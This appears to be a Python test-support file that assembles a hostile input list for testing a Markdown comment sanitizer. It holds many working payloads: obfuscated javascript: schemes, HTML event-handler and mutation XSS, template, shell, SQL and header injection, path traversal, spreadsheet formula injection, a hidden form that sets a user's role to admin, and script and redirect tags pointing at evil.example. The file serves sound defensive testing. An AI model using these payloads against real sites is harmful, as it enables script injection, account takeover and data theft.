"""A hostile list of our own: payloads by class, and the neighbours that their combinations make."""

import json
import os
from collections.abc import Iterator
from itertools import product
from pathlib import Path

import pytest

# Ways to say "run this" in an address, and what hides them from a filter that looks for a prefix.
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java&#9;script:", "java&Tab;script:", "java&NewLine;script:"),
    *("&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript&colon;", "javascript&#58;"),
    *(
        "\x01javascript:",
        " javascript:",
        "\u00a0javascript:",
        "\ufeffjavascript:",
        "javascript\u200b:",
        "%6aavascript:",
    ),
    *("data:text/html,", "data:text/html;base64,", "DATA:image/svg+xml,", "vbscript:", "livescript:", "mocha:"),
    *("file:///", "blob:", "filesystem:", "view-source:", "about:", "jar:", "ws:", "tel:", "sms:", "intent:", "feed:"),
    *(
        "http:javascript:",
        "https:javascript:",
        "//javascript:",
        "\\\\evil.example\\",
        "javascript://%0a",
        "x-javascript:",
    ),
)
ADDRESS = "alert(1)"
# Places in Markdown where an address may stand.
LINKS = (
    *(
        "[a]({})",
        "[a](<{}>)",
        "[a]({} 'title')",
        '[a]({} "x")',
        "<{}>",
        "![a]({})",
        "[![a]({})]({})",
        "{}",
        "[a][r]\n\n[r]: {}",
    ),
    *(
        "[a]: {}\n\n[a]",
        "> [a]({})",
        "- [a]({})",
        "*[a]({})*",
        "`[a]({})`",
        "[`a`]({})",
        "[a\\]({})",
        "www.x.example/{}",
    ),
)
# Elements and attributes as raw HTML; `{}` is where a handler or an address stands.
RAW = (
    *("<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script src=//evil.example></script>", "<script\n>{}</script\n>"),
    *("<scr<script>ipt>{}</scr</script>ipt>", "<<script>{}//<</script>", "<script/x>{}</script>", "<script>{}"),
    *("<img src=x onerror={}>", "<img src=x onerror={}//", "<img/src=x/onerror={}>", "<IMG SRC=x OnErRoR='{}'>"),
    *('<img src="x` `<script>{}</script>"` `>', "<image src=x onerror={}>", "<img src=x:x onerror\x0b={}>"),
    *("<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><set attributeName=href to=javascript:{}>"),
    *("<svg><animate attributeName=href values=javascript:{} /><a id=x>", "<svg><a xlink:href=javascript:{}>x</a>"),
    *("<math><mtext><table><mglyph><style><img src=x onerror={}>", "<math href=javascript:{}>x</math>"),
    *(
        "<math><annotation-xml encoding=text/html><script>{}</script>",
        "<svg></p><style><a id='</style><img src=1 onerror={}>'>",
    ),
    *(
        "<noscript><p title='</noscript><img src=x onerror={}>'>",
        "<textarea><img title='</textarea><img src onerror={}>'>",
    ),
    *("<xmp><p title='</xmp><img src=x onerror={}>'></xmp>", "<style><img title='</style><img src onerror={}>'>"),
    *(
        "<template><script>{}</script></template>",
        "<select><template><style><!--</style><a rel='--></style><img onerror={}>'>",
    ),
    *(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
        "<table><td background=javascript:{}>",
    ),
    *(
        "<iframe src=javascript:{}>",
        "<iframe srcdoc='<script>{}</script>'>",
        "<object data=javascript:{}>",
        "<embed src=javascript:{}>",
    ),
    *("<form action=javascript:{}><button>x</button></form>", "<button formaction=javascript:{}>x</button>"),
    *("<input formaction=javascript:{} type=submit>", "<input onfocus={} autofocus>", "<keygen onfocus={} autofocus>"),
    *(
        "<details open ontoggle={}>",
        "<marquee onstart={}>",
        "<video><source onerror={}></video>",
        "<audio src onerror={}>",
    ),
    *("<body onload={}>", "<html onmouseover={}>", "<a href=x onclick={}>x</a>", "<x@ onclick={}>x", "<x/onclick={}>x"),
    *(
        "<a title='x onmouseover={} style=position:absolute;left:0;top:0;width:5000px '>x</a>",
        "<p style=width:expression({})>",
    ),
    *(
        "<a href='x' title='\"onmouseover={} x='>y</a>",
        "<base href=//evil.example>",
        "<link rel=stylesheet href=javascript:{}>",
    ),
    *("<meta http-equiv=refresh content='0;url=javascript:{}'>", "<div style=background:url(javascript:{})>x</div>"),
    *(
        "<!--><script>{}</script>",
        "<!-- --!><script>{}</script>",
        "<![CDATA[<script>{}</script>]]>",
        "<?xml?><script>{}</script>",
    ),
    *("</p><script>{}</script>", "</div></li></ol></section><script>{}</script>", "</textarea><script>{}</script>"),
    *(
        "</title><script>{}</script>",
        "'\"><script>{}</script>",
        '" onfocus={} autofocus x="',
        "' onfocus={} autofocus x='",
    ),
    *("` onfocus={} x=`", "><img src=x onerror={}>", "<a\x00 href=x onclick={}>", "<a\x0chref=x\x0conclick={}>x</a>"),
    *(
        "\ufeff<script>{}</script>",
        "＜script＞{}＜/script＞",
        "\u2039script\u203a{}",
        "+ADw-script+AD4-{}+ADw-/script+AD4-",
    ),
    *(
        "&lt;script&gt;{}&lt;/script&gt;",
        "&amp;lt;script&amp;gt;{}",
        "%3Cscript%3E{}%3C/script%3E",
        "\\u003cscript\\u003e{}",
    ),
)
# What templates, shells, databases, headers and files could take for theirs.
OTHERS = (
    *(
        "{{7*7}}",
        "{%print(7*7)%}",
        "{{ config }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{''.__class__.__mro__}}",
        "{# x #}",
    ),
    *(
        "{{ text_html | safe }}",
        "{% endautoescape %}<b>",
        "%s%n%x",
        "{0.__class__}",
        "$(id)",
        "`id`",
        "; ls",
        "| cat /etc/passwd",
    ),
    *(
        "' or '1'='1",
        "'; drop table comments; --",
        '" or ""="',
        "1;select sqlite_sleep(9)",
        "x' union select * from accounts --",
    ),
    *("x\r\nBcc: a@b.example", "x\nSet-Cookie: a=b", "x=?UTF-8?Q?=0A?=Bcc: a@b", "x\u2028y", "x\u2029y", "x\x85y"),
    *("../../etc/passwd", "..%2f..%2fblog.db", "C:\\boot.ini", "//evil.example/x", "=cmd|' /C calc'!A0", "@SUM(1+1)"),
    *(
        "\u202egnp.exe",
        "\u2066a\u2069",
        "a\u0300" * 200,
        "\U0001f3f4\U000e0067",
        "﷽" * 50,
        "\u200b",
        "\u00ad",
        "ﬀİıſ",
        "\u0000",
    ),
    *("[" * 600, "*" * 500, "`" * 500, ">" * 500, "<" * 500, "&" * 500, "~" * 500, "_a_" * 200, "![" * 200, "a;" * 500),
    *(
        "mailto:" * 200,
        "http://x.example/" + "*" * 500 + "a",
        "<a" * 500,
        "<!--" * 200,
        "|a|\n|-|\n" * 100,
        "  " * 500 + "x",
    ),
    *(
        "http://user:pass@x.example",
        "https://x.example/?a=1&b=<2>",
        "http://[::1]/",
        "http://0x7f.1/",
        "http://２.example",
    ),
)


def ours() -> list[str]:
    """Return our own list, with every scheme in every place and every handler in every element."""
    linked = [place.replace("{}", scheme + ADDRESS) for place, scheme in product(LINKS, SCHEMES)]
    raw = [text.replace("{}", ADDRESS) for text in RAW]
    inside = [f"{before}{text}{after}" for text in raw for before, after in WRAPPED]
    return list(dict.fromkeys([*linked, *raw, *inside, *OTHERS]))


WRAPPED = (
    ("> ", ""),
    ("- ", ""),
    ("`", "`"),
    ("*", "*"),
    ("[", "](http://x.example)"),
    ("```\n", "\n```"),
    ("\n\n    ", ""),
)
SHARED = Path(os.environ.get("HOSTILE_CORPORA", Path(__file__).parents[3] / "shared" / "data"))
LONGEST = 16_384


def shared() -> list[str]:
    """Return the corpora of others, where they lie beside this repository; skip where they do not."""
    if not SHARED.is_dir():
        pytest.skip("The corpora of hostile texts are not on this machine; our own list was tried all the same.")
    return list(dict.fromkeys(_shared()))


def _shared() -> Iterator[str]:
    attacks, markdown = SHARED / "attacks", SHARED / "markdown"
    for name in ("blns.json", "isso-test-strings.json", "remark42-sanitize-strings.json"):
        yield from (each for each in json.loads((attacks / name).read_text("utf-8")) if isinstance(each, str))
    for item in json.loads((attacks / "h5sc-items.json").read_text("utf-8")):
        yield item["data"]
        for name in ("%js_uri_alert%", "%js_alert%", "%js_uri%"):
            yield item["data"].replace(name, "javascript:alert(1)" if "uri" in name else "alert(1)")
    for path in sorted(attacks.glob("patt-*.txt")):
        yield from path.read_text("utf-8", "replace").splitlines()
    for example in json.loads((markdown / "commonmark-spec.json").read_text("utf-8")):
        yield example["markdown"]
    for path in sorted(markdown.glob("*fixture*.md")):
        text = path.read_text("utf-8")
        yield text
        yield from text.split("\n.\n")
    yield from pathological()


def pathological() -> list[str]:
    """Return the slow inputs, each built of its parts as long as a comment may be."""
    path = SHARED / "markdown" / "pathological.json"
    return [_built(item["parts"]) for item in json.loads(path.read_text("utf-8"))] if path.is_file() else []


def _built(parts: list[tuple[str, int]]) -> str:
    share = min(1.0, LONGEST / sum(len(text) * times for text, times in parts))
    return "".join(text * max(1, int(times * share)) for text, times in parts)[:LONGEST]


# What a browser takes for a comment that has ended already, and parsers of Markdown for one that goes on.
ROLE_FORM = (
    '<form method="post" action="/admin/users/3/role"><input type="hidden" name="role" value="admin">'
    "<button>Read the whole essay</button></form>"
)
HIDDEN_IN_COMMENTS = tuple(
    opening.replace("{}", payload)
    for payload in (ROLE_FORM, "<meta http-equiv=refresh content='0;url=//evil.example'>", "<script>alert(1)</script>")
    for opening in (
        *("<!--> {} -->", "<!---> {} -->", "<!-- --!> {} -->", "<!--\n-->{}<!-- -->", "x <!--> {} --> y"),
        *("<!-- <!-- --> {} -->", "<!-- more --> {}", "<!-- more -->{}<!-- more -->", "<!--->\n\n{}\n\n-->"),
        *("<![CDATA[ > {} ]]>", "<![CDATA[x]]>{}", "<? > {} ?>", "<?php ?>{}", "<!DOCTYPE x>{}", "<!x {}>", "</ {}>"),
        *("> <!--> {}", "- <!--> {}", "|a|\n|-|\n|<!--> {}|", "a[^1]\n\n[^1]: <!--> {}", "## <!--> {}"),
        *("[a <!--> {}](/b)", '![a](b.jpg "<!--> {}")', "![<!--> {}](b.jpg)", "```{}\nx\n```", "```py\n{}\n```"),
    )
)
